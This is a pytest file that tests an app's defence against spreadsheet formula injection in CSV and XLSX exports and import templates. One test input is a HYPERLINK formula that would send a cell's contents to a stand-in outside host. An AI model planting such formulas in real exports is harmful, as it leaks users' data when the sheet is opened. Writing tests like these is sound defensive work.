"""Exports run nothing: a name a spreadsheet would run comes out of every CSV and XLSX as text, as typed."""

from __future__ import annotations

import csv
import io

import pytest
from nicegui.testing import User
from openpyxl import Workbook, load_workbook

from models.aid import AidItem
from models.participant import Participant
from models.spreadsheet import csv_cell, workbook_bytes
from store.skills import day_skills
from ui.documents.import_template import template_csv, template_xlsx
from ui.runtime import runtime

from .conftest import COORDINATOR, demo_day, demo_programme, log_in

RUNNABLE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '+62 812 Ani', '-Ani-', '@SUM(A1:A9)']
SKILL = '=1+1 Bolu kukus'
AID = '=2+2 Paket kue'


@pytest.mark.parametrize('text', ['=1+1', '+1', '-1', '@A1', '\tx', '\rx'])
def test_a_csv_cell_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize('value', ['Ani', '', 'Sri = Ani', 'x-1', 42, 3.5, None])
def test_other_csv_cells_pass_unchanged(value: object) -> None:
    assert csv_cell(value) == value


def test_a_workbook_keeps_text_that_looks_like_a_formula_as_text() -> None:
    book = Workbook()
    book.active.append(['=SUM(1,1)', 7, 'Ani'])

    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active

    cells = [c for row in sheet.iter_rows() for c in row]
    assert [(c.value, c.data_type) for c in cells] == [('=SUM(1,1)', 's'), (7, 'n'), ('Ani', 's')]


async def plant() -> dict[str, str]:
    store = await runtime.ready()
    kue = demo_programme(store)
    day = demo_day(store, kue)
    people = [store.get(Participant, i) for i in kue.participant_ids[: len(RUNNABLE)]]
    renamed = [
        p.model_copy(update={'name': name, 'village': name}) for p, name in zip(people, RUNNABLE, strict=True) if p
    ]
    skill = day_skills(store, day.id)[0]
    item = next(i for i in store.all(AidItem) if i.programme_id == kue.id)
    await store.put(*renamed, skill.model_copy(update={'name': SKILL}), item.model_copy(update={'name': AID}))
    return {'kue': kue.id}


def xlsx_cells(body: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(body))
    return [(c.value, c.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


@pytest.mark.demo
@pytest.mark.parametrize(
    ('path', 'shown'),
    [
        ('/export/attendance/{kue}.xlsx', [*RUNNABLE]),
        ('/export/progress/{kue}.xlsx', [*RUNNABLE, SKILL]),
        ('/export/outcomes/{kue}.xlsx', [*RUNNABLE, AID]),
        ('/export/audit.xlsx?programme={kue}', [*RUNNABLE]),  # whom each entry is about
    ],
)
async def test_a_runnable_name_is_a_text_cell_in_the_xlsx(user: User, path: str, shown: list[str]) -> None:
    ids = await plant()
    await log_in(user, *COORDINATOR)

    response = await user.http_client.get(path.format(**ids))

    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert [c for c in cells if c[1] == 'f'] == []  # no formula anywhere
    texts = {value for value, kind in cells if kind == 's'}
    assert set(shown) <= texts  # exactly as typed
    assert any(kind == 'n' and isinstance(value, int | float) for value, kind in cells)  # numbers stay numbers


@pytest.mark.demo
@pytest.mark.parametrize('path', ['/export/attendance/{kue}.csv', '/export/audit.csv?programme={kue}'])
async def test_a_runnable_name_is_text_in_the_csv(user: User, path: str) -> None:
    ids = await plant()
    await log_in(user, *COORDINATOR)

    response = await user.http_client.get(path.format(**ids))

    rows = list(csv.reader(io.StringIO(response.content.decode('utf-8-sig')), delimiter=';'))
    cells = {cell for row in rows for cell in row}
    assert {"'" + name for name in RUNNABLE} <= cells
    assert not [cell for cell in cells if cell.startswith(('=', '+', '-', '@'))]
    assert any(cell.isdigit() for cell in cells)  # numbers are written as numbers


def test_the_import_templates_hold_no_formula() -> None:
    rows = list(csv.reader(io.StringIO(template_csv().decode('utf-8-sig')), delimiter=';'))
    assert not [cell for row in rows for cell in row if cell.startswith(('=', '+', '-', '@'))]
    assert [c for c in xlsx_cells(template_xlsx()) if c[1] == 'f'] == []
